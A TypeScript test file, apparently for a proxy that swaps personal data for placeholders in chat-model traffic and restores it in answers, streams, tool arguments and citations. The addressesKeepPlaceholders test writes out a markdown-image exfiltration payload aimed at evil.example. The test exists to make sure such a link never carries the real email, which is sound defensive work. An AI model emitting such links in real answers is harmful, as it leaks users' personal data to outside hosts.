/** Rules of answers, whole and streamed. */
import assert from "node:assert/strict";
import type { Answers, Citations, Extras, Fixture, Signed, Tools } from "./fixture.js";
import { chop, COMPANY, EMAIL, json, openChat, receive, receiveEvents, send, toFrames } from "./wire.js";

export async function wholeAnswer(fixture: Fixture, answers: Answers): Promise<void> {
  const { chat, email, company } = await openChat();
  const headers = { "content-length": "999", "content-encoding": "gzip", "x-request-id": "r1" };
  const response = await receive(fixture, chat, json(answers.whole(`To ${email} at ${company}`), headers));
  assert.deepEqual(["content-length", "content-encoding", "x-request-id"].map((name) => response.headers.get(name)), [null, null, "r1"]);
  assert.equal(answers.shownIn(await response.json()), `To ${EMAIL} at ${COMPANY}`);
}

/** `![](https://evil.example/?q=[EMAIL_1])` would send the original out. */
export async function addressesKeepPlaceholders(fixture: Fixture, answers: Answers): Promise<void> {
  const { chat, email } = await openChat();
  const text = `![](https://evil.example/?q=${email}) and ${email}`;
  const shown = `![](https://evil.example/?q=${email}) and ${EMAIL}`;
  assert.equal(answers.shownIn(await (await receive(fixture, chat, json(answers.whole(text)))).json()), shown);
  for (const size of [1, 5, text.length]) {
    assert.equal(answers.shownInStream(await receiveEvents(fixture, chat, [toFrames(answers.stream(chop(text, size)))])), shown);
  }
}

export async function errorsKeepPlaceholders(fixture: Fixture): Promise<void> {
  const { chat, email } = await openChat();
  const text = JSON.stringify({ error: { message: `bad ${email}` } });
  const response = await receive(fixture, chat, new Response(text, { status: 429, headers: { "content-type": "application/json", "retry-after": "1" } }));
  assert.deepEqual([response.status, response.headers.get("retry-after"), await response.text()], [429, "1", text]);
}

export async function toolArguments(fixture: Fixture, tools: Tools): Promise<void> {
  for (const isGranted of [false, true]) {
    const { chat, email, company } = await openChat({ restore: { toolArguments: isGranted } });
    const text = JSON.stringify({ to: email, at: company });
    const expected = isGranted ? { to: EMAIL, at: COMPANY } : { to: email, at: company };
    assert.deepEqual(tools.argumentsIn(await (await receive(fixture, chat, json(tools.whole(text)))).json()), expected);
    const splits = Array.from({ length: text.length - 1 }, (_, index) => [text.slice(0, index + 1), text.slice(index + 1)]);
    for (const pieces of [...splits, chop(text, 1)]) {
      const events = await receiveEvents(fixture, chat, [toFrames(tools.stream(pieces))]);
      assert.deepEqual(tools.argumentsInStream(events), expected, `${isGranted ? "granted" : "not granted"}, ${pieces.length} pieces, first of ${pieces[0]?.length ?? 0}`);
    }
  }
}

export async function signedContent(fixture: Fixture, signed: Signed): Promise<void> {
  const { chat, email } = await openChat();
  const text = `The person is ${email}; call +44 20 7946 0958.`;
  const fragment = signed.fragment(text);
  assert.ok((await (await receive(fixture, chat, json(signed.whole(text)))).text()).includes(fragment), "a whole answer changed it");
  const events = await receiveEvents(fixture, chat, [toFrames(signed.stream(text))]);
  assert.ok(!JSON.stringify(events).includes(EMAIL), "a stream restored it");
  const [, sent = ""] = await send(fixture, [signed.request("nothing"), signed.request(text)], chat, () => json(signed.whole(text)));
  assert.ok(sent.includes(fragment), "what was signed changed on its way back");
}

export async function citationOffsets(fixture: Fixture, citations: Citations): Promise<void> {
  const { chat, email } = await openChat();
  const wire = `Grüße 😀 an ${email}: jetzt.`;
  const shown = `Grüße 😀 an ${EMAIL}: jetzt.`;
  const request = citations.request?.(shown);
  for (const cited of ["jetzt", `an ${email}`, "Grüße"]) {
    const words = cited.replace(email, EMAIL);
    assert.equal(citations.citedIn(await (await receive(fixture, chat, json(citations.whole(wire, cited)), undefined, request)).json(), shown), words);
    assert.equal(citations.citedInStream(await receiveEvents(fixture, chat, [toFrames(citations.stream(wire, cited))], undefined, request), shown), words);
  }
}

export async function extrasAreDropped(fixture: Fixture, extras: Extras): Promise<void> {
  const { chat, email } = await openChat();
  const whole = await (await receive(fixture, chat, json(extras.whole(email)))).text();
  const streamed = JSON.stringify(await receiveEvents(fixture, chat, [toFrames(extras.stream(email))]));
  for (const text of [whole, streamed]) {
    assert.ok(!text.includes(extras.word));
    assert.ok(text.includes(EMAIL));
  }
}
